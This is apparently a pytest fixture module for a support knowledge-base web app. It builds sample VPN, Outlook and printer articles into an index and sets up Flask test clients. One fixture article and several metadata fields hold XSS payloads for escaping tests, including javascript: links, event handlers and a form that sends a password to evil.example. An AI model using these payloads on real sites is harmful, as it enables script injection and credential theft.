"""Helpers for the web tests: a tiny knowledge base built into a real index, and apps on it.

Used as a pytest plugin (`pytest_plugins = ("tests.test_web_fixtures",)`); it holds no tests.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from kb.config import Settings, load_settings
from search.build import build_index
from tests.conftest import VOCABULARY
from tests.media_files import png_bytes
from web.app import create_app

EDIT_TEMPLATE = "https://git.example.com/kb/-/edit/main/articles/{path}"
HISTORY_TEMPLATE = "https://git.example.com/kb/-/commits/main/articles/{path}"
XSS = '<script>alert("x")</script>'
# One unbreakable word, so the phone-layout test sees whether long identifiers wrap.
LONG_ERROR = "ERROR_VPN_TUNNEL_NEGOTIATION_FAILED_WITH_A_VERY_LONG_NAME_0x800704C9"
XSS_ATTR = '"><img src=x onerror=alert(1)>'

WEB_VOCABULARY = {
    **VOCABULARY,
    "categories.yaml": """\
        network: {zh: 网络, en: Network}
        network/vpn: {zh: VPN, en: VPN}
        email: {zh: 邮件, en: Email}
        email/outlook: {zh: Outlook 客户端, en: Outlook client}
        printing: {zh: 打印, en: Printing}
        """,
    "onboarding.yaml": """\
        basics:
          title: {en: Basics for new staff, zh: 新员工基础}
          audience: {en: Everyone joining the desk, zh: 所有新加入服务台的同事}
          steps: [vpn-error-809, outlook-password-prompt, ticket-lifecycle-zh]
        """,
}


def front_matter(**fields: Any) -> str:
    """Front-matter lines, values JSON-encoded (valid YAML)."""
    return "\n".join(f"{k}: {json.dumps(v, ensure_ascii=False)}" for k, v in fields.items() if v is not None)


def article(rel: str, body: str, **fields: Any) -> tuple[str, str]:
    return rel, f"---\n{front_matter(**fields)}\n---\n{textwrap.dedent(body)}\n"


ARTICLES: Sequence[tuple[str, str]] = [
    article("en/network/vpn-error-809.md", f"""\
        ## Issue

        Connecting to the VPN shows **Error 809**: the network connection between your computer
        and the VPN server could not be established. The client log shows `{LONG_ERROR}`.

        ## Resolution

        1. Switch the profile to IKEv2.
        2. Run this in an elevated prompt:

        ```powershell
        Set-VpnConnection -Name "Office" -TunnelType Ikev2
        ```

        See also [Outlook keeps asking for a password](kb:outlook-password-prompt).

        ![The VPN settings dialog with IKEv2 selected](vpn-settings.png)

        > [!NOTE]
        > The profile name is case sensitive.

        !!! tip
            Users can check the tunnel type in the connection details.

        !!! important
            Keep the pre-shared key out of tickets.

        > [!WARNING]
        > Removing the profile also removes the saved gateway list.

        !!! caution
            Never turn off the firewall to test the tunnel.

        ## Cause

        NAT drops ESP packets.
        """, id="vpn-error-809", title="VPN fails with error 809",
        summary="The L2TP VPN times out behind home routers.",
        type="problem", state="validated", categories=["network/vpn"], tags=["windows", "error-code"],
        products=["windows@11"], errors=["Error 809", LONG_ERROR], lang="en", owner="network-team",
        reviewed="2020-01-01",
        review_every=180, translation_of="vpn-error-809-zh", aliases=["vpn-809", "network/old-vpn-page.md"],
        related=["outlook-password-prompt"]),
    article("zh/network/vpn-error-809-zh.md", """\
        ## 问题

        连接 VPN 时显示错误 809：无法建立计算机与 VPN 服务器之间的网络连接。

        ## 解决方法

        把配置文件切换为 IKEv2。

        > [!WARNING]
        > 删除配置文件会同时删除已保存的网关列表。
        """, id="vpn-error-809-zh", title="VPN 连接失败，错误 809", summary="家庭路由器后的 L2TP VPN 超时。",
        type="problem", state="validated", categories=["network/vpn"], tags=["windows"], lang="zh",
        owner="network-team", reviewed="2026-10-01", review_every=365, translation_of="vpn-error-809"),
    article("en/email/outlook-password-prompt.md", """\
        ## Issue

        Outlook keeps asking for a password after the account password was changed.

        ## Resolution

        Remove the saved credentials in Credential Manager and restart Outlook.
        """, id="outlook-password-prompt", title="Outlook keeps asking for a password",
        summary="Stale saved credentials make Outlook prompt again and again.", type="problem",
        state="unverified", categories=["email/outlook"], tags=["windows"], products=["outlook"], lang="en",
        owner="messaging-team"),
    article("zh/onboarding/ticket-lifecycle-zh.md", """\
        ## 工单流程

        工单从受理、分派、处理到关闭的全过程。
        """, id="ticket-lifecycle-zh", title="工单的生命周期", summary="从受理到关闭。", type="onboarding",
        state="validated", lang="zh"),
    article("en/network/old-dialup.md", "Dial-up modems are no longer supported.\n", id="old-dialup",
            title="Dial-up modem setup", type="howto", state="archived", categories=["network"], lang="en"),
    article("en/network/draft-wifi.md", "Work in progress.\n", id="draft-wifi", title="Draft Wi-Fi notes",
            state="draft", categories=["network"], lang="en"),
    article("en/email/xss-article.md", f"""\
        ## Payloads

        {XSS}

        <img src=x onerror="alert(2)">

        [click me](javascript:alert(3))

        <a href="javascript:alert(4)">raw link</a>

        <svg onload=alert(5)><circle r=1 /></svg>

        <iframe src="javascript:alert(6)"></iframe>

        [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)

        <a href="jav&#x09;ascript:alert(8)">tab link</a>

        ![image](javascript:alert(9))

        <details open ontoggle=alert(10)><summary>x</summary></details>

        <style>body {{ display: none }}</style>

        <meta http-equiv="refresh" content="0;url=https://evil.example/">

        <form action="https://evil.example/"><input name="password"></form>

        <base href="https://evil.example/">

        <object data="javascript:alert(11)"></object>

        <math><mi xlink:href="javascript:alert(12)">x</mi></math>

        [{{{{7*7}}}}](https://example.com/ "title\" onmouseover=\"alert(13)")
        """, id="xss-article", title=f"Mail {XSS} test", summary=f"Summary {XSS_ATTR}", type="problem",
        state="validated", categories=["email"], lang="en", owner=f"owner {XSS}",
        errors=[f"ERR {XSS_ATTR}"]),
    *[article(f"en/printing/printer-jam-{n}.md", f"""\
        ## Issue

        Printer {n} jams on page {n} with a paper jam in tray {n % 3 + 1}.

        ## Resolution

        Open the printer door and remove the paper.
        """, id=f"printer-jam-{n}", title=f"Printer {n} paper jam", summary=f"Paper jam on printer {n}.",
        type="problem", state="validated" if n % 2 else "unverified", categories=["printing"], lang="en",
        owner="desk") for n in range(1, 24)],
]


# Files beside the articles: a screenshot the VPN article shows.
MEDIA: dict[str, bytes] = {"en/network/vpn-settings.png": png_bytes()}


def write_knowledge_base(root: Path, articles: Sequence[tuple[str, str]] = ARTICLES,
                         media: dict[str, bytes] | None = None) -> Path:
    """An articles folder with the web test vocabulary and articles, and the files they show
    (`MEDIA` unless told otherwise; a file no article shows is simply not published)."""
    (root / "_kb").mkdir(parents=True, exist_ok=True)
    for name, text in WEB_VOCABULARY.items():
        (root / "_kb" / name).write_text(textwrap.dedent(text), encoding="utf-8")
    for rel, text in articles:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    for rel, data in (MEDIA if media is None else media).items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return root


def web_settings(articles_dir: Path, index_dir: Path, **overrides: Any) -> Settings:
    # Word matching only unless a test asks for semantic retrieval (it loads in the background).
    values = {"database_url": f"sqlite:///{index_dir.parent / 'records.db'}", "semantic": False, **overrides}
    return load_settings(environ={}, articles_dir=articles_dir, index_dir=index_dir, edit_url_template=EDIT_TEMPLATE,
                         history_url_template=HISTORY_TEMPLATE, secret_key="test-secret-0123", site_name="Support KB",
                         **values)


@pytest.fixture(scope="session")
def built_kb(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The web test knowledge base, built once into a real index (read-only for the tests)."""
    root = tmp_path_factory.mktemp("webkb")
    articles_dir = write_knowledge_base(root / "articles")
    settings = web_settings(articles_dir, root / "index")
    report = build_index(settings)
    assert not report.errors, [str(p) for p in report.errors]
    return settings


@pytest.fixture(scope="session")
def app(built_kb: Settings) -> Flask:
    return create_app({"KB_SETTINGS": built_kb, "TESTING": True})


@pytest.fixture
def client(app: Flask) -> Iterator[FlaskClient]:
    with app.test_client() as test_client:
        yield test_client


BROWSER_TESTS = "tests/test_web_browser.py"


@pytest.hookimpl(tryfirst=True)
def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """Mark the browser tests (the marker is declared in pyproject.toml)."""
    for item in items:
        if item.nodeid.startswith(BROWSER_TESTS):
            item.add_marker("browser")
